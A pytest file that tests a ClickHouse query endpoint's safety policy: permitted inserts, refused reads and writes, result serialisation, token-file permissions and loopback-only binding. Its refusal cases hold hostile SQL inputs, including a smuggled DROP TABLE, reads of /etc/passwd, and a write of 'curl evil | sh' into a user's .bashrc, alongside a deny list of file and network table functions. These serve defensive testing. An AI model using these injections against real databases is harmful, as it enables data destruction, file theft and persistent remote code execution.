"""The query endpoint's pure parts: what it lets through, how it writes its token, how results
become JSON, and the loopback-only ``pipeline.http_host`` (no network, no chDB)."""

from __future__ import annotations

import ipaddress
import os
import stat
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import UUID

import orjson
import pytest

from pipeline.clickhouse.querypolicy import (
    Refused,
    check_read,
    check_write,
    denied_functions,
    function_names,
    is_ack_insert,
)
from pipeline.clickhouse.queryserver import parse_body, write_token
from pipeline.clickhouse.store import QueryResult, plain
from pipeline.core.errors import BatchscopeError

DB = "batchscope"
DENIED = denied_functions(["file", "url", "s3", "numbers", "format", "python", "remote", "executable"])


@pytest.mark.parametrize("sql", [
    "INSERT INTO batch_output_acks (source, batch_id, consumer, output_file_id)\n"
    "                          VALUES ('openai-prod', 'batch_abc', 'etl', 'file-xyz')",
    "insert into batchscope.batch_output_acks values ('a', 'b'), ('c', 'd', NULL, -1.5e3);\n",
    "INSERT INTO `batchscope`.`batch_output_acks` (`source`) VALUES ('it''s', 'a\\'; DROP TABLE x; --')",
])
def test_the_acknowledgement_insert_is_the_one_write(sql: str) -> None:
    assert is_ack_insert(sql, DB)
    assert check_write(sql, DB, write=True) is True


@pytest.mark.parametrize("sql", [
    "INSERT INTO other.batch_output_acks VALUES ('a')",
    "INSERT INTO batch_output_acks VALUES ('a'); DROP TABLE batch_snapshots",
    "INSERT INTO batch_output_acks VALUES (file('/etc/passwd'))",
    "INSERT INTO batch_output_acks SELECT * FROM file('/etc/passwd')",
    "INSERT INTO batch_output_acks FORMAT CSV a,b",
    "INSERT INTO batch_output_acks SETTINGS input_format_values_interpret_expressions = 1 VALUES ('a')",
    "INSERT INTO FUNCTION file('/home/me/.bashrc', 'LineAsString') VALUES ('curl evil | sh')",
    "INSERT INTO batch_output_acks FROM INFILE '/etc/passwd'",
    "INSERT INTO batch_output_acks VALUES ('a') -- trailing comment",
    "INSERT INTO batch_snapshots VALUES ('a')",
    "INSERT INTO batch_output_acks VALUES ('a'\xa0)",
])
def test_every_other_insert_is_refused_with_what_is_allowed(sql: str) -> None:
    assert not is_ack_insert(sql, DB)
    with pytest.raises(Refused, match="with --write only INSERT INTO batch_output_acks"):
        check_write(sql, DB, write=True)


def test_the_acknowledgement_without_write_is_read_only() -> None:
    with pytest.raises(Refused, match="read-only; add --write"):
        check_write("INSERT INTO batch_output_acks (source, batch_id) VALUES ('x', 'y')", DB, write=False)
    assert check_write("SELECT 1", DB, write=True) is False  # a read, checked as one


def test_hostile_values_cannot_make_the_match_backtrack_for_ever() -> None:
    """Every split of '' inside a string could be tried: the possessive match never does."""
    head = "INSERT INTO batch_output_acks VALUES ("
    for evil in (head + "'" + "'', '" * 200_000 + "x", head + "('a'), " * 100_000 + "(x",
                 head + "1, " * 200_000 + "x)"):
        assert not is_ack_insert(evil, DB)


def tree(select: dict[str, Any], **root: Any) -> str:
    return orjson.dumps({"type": "SelectWithUnionQuery", "list_of_selects": {
        "type": "ExpressionList", "children": [{"type": "SelectQuery", "select": select}]}, **root}).decode()


def call(name: str, *args: Any) -> dict[str, Any]:
    return {"type": "Function", "name": name, "arguments": {"type": "ExpressionList", "children": list(args)}}


def test_a_plain_select_passes() -> None:
    check_read(tree(call("plus", call("count"), {"type": "Literal", "value": 1})), DENIED)
    check_read(tree(call("format", {"type": "Literal"}), tables=call("numbers")), DENIED)
    check_read(orjson.dumps({"type": "ShowTablesQuery"}).decode(), DENIED)


@pytest.mark.parametrize(("parsed", "reason"), [
    (orjson.dumps({"type": "SetQuery"}).decode(), "SetQuery is not a read"),
    (orjson.dumps({"type": "DropQuery"}).decode(), "DropQuery is not a read"),
    (orjson.dumps({"type": "SystemQuery"}).decode(), "SystemQuery is not a read"),
    (tree(call("tuple"), out_file={"type": "Literal"}), "INTO OUTFILE"),
    (tree(call("tuple"), format_ast={"type": "Identifier"}), "FORMAT"),
    (tree(call("length", call("file", {"type": "Literal"}))), r"file\(\) reads files"),
    (tree(call("tuple"), tables=call("url")), r"url\(\) reads files"),
    (tree(call("tuple"), tables=call("Python")), r"Python\(\) reads files"),
    (tree({"type": "Asterisk", "transformers": {"children": [
        {"type": "ColumnsApplyTransformer", "func_name": "file"}]}}), r"file\(\) reads files"),
    (tree(call("aiGenerate", {"type": "Literal"})), r"aiGenerate\(\)"),
    (tree(call("hasColumnInTable")), r"hasColumnInTable\(\)"),
])
def test_what_a_read_may_not_do(parsed: str, reason: str) -> None:
    with pytest.raises(Refused, match=reason):
        check_read(parsed, DENIED)


def test_parameters_are_bound_server_side_only() -> None:
    placeholder = {"type": "QueryParameter", "name": "at", "param_type": "String"}
    check_read(tree(call("tuple", placeholder)), DENIED, params=True)
    with pytest.raises(Refused, match="placeholders"):
        check_read(tree(call("modulo", {"type": "Identifier", "name": "x"})), DENIED, params=True)


def test_deep_statements_are_refused_or_walked_without_recursion() -> None:
    with pytest.raises(Refused, match="nested too deeply"):
        check_read("[" * 2000 + "]" * 2000, DENIED)
    node: dict[str, Any] = call("file")
    for _ in range(5000):
        node = call("plus", node)
    assert list(function_names(node)).count("file") == 1


def test_only_generators_remain_among_table_functions() -> None:
    assert {"file", "url", "s3", "python", "remote", "executable"} <= DENIED
    assert not {"numbers", "format"} & DENIED


def test_results_become_json_whatever_the_column_type() -> None:
    result = QueryResult(("ip", "map", "pair_map", "uuid", "dec", "huge", "raw", "set", "other"), [(
        ipaddress.ip_address("10.0.0.1"), {1: "a", 2: [ipaddress.ip_address("::1")]}, {(1, 2): "x"},
        UUID(int=1), Decimal("1.50"), 1 << 200, b"\xffok", {3}, object,
    )])
    row = orjson.loads(orjson.dumps({"rows": result.plain_rows()}))["rows"][0]
    assert row[:8] == ["10.0.0.1", {"1": "a", "2": ["::1"]}, {"[1, 2]": "x"},
                       "00000000-0000-0000-0000-000000000001", "1.50", str(1 << 200), "\ufffdok", [3]]
    assert row[8] == "<class 'object'>"
    assert plain(-(1 << 63)) == -(1 << 63)


@pytest.mark.parametrize("body", [b"not json", b"[]", b'{"sql": 1}', b'{"sql": "  "}',
                                  b'{"sql": "SELECT 1", "write": "yes"}',
                                  b'{"sql": "SELECT 1", "params": []}'])
def test_a_bad_body_is_one_line(body: bytes) -> None:
    with pytest.raises(BatchscopeError, match="expected a JSON body"):
        parse_body(body)
    good = parse_body(b'{"sql": "SELECT {n:UInt8}", "params": {"n": 1}}')
    assert good == ("SELECT {n:UInt8}", {"n": "1"}, False)


def test_the_token_file_is_only_ever_the_owners(tmp_path: Path) -> None:
    path = tmp_path / "data" / "pipeline.token"
    old = os.umask(0)  # even a permissive umask gives nobody else a moment to read it
    try:
        token = write_token(path)
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_text(encoding="ascii") == token
    assert len(token) >= 40
    target = tmp_path / "elsewhere"
    target.write_text("keep", encoding="utf-8")
    path.unlink()
    path.symlink_to(target)  # a planted link is replaced, never followed
    second = write_token(path)
    assert second != token
    assert not path.is_symlink()
    assert target.read_text(encoding="utf-8") == "keep"


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.10", "localhost", "example.com"])
def test_a_non_loopback_http_host_is_one_line_exit_2(tmp_path: Path, host: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    from batchscope.cli import main

    config = tmp_path / "batchscope.toml"
    config.write_text(f'[pipeline]\nhttp_host = "{host}"\ndata_dir = "{tmp_path}"\n', encoding="utf-8")
    assert main(["--config", str(config), "query", "SELECT 1"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1
    assert "pipeline.http_host" in err[0]
    assert "loopback" in err[0]
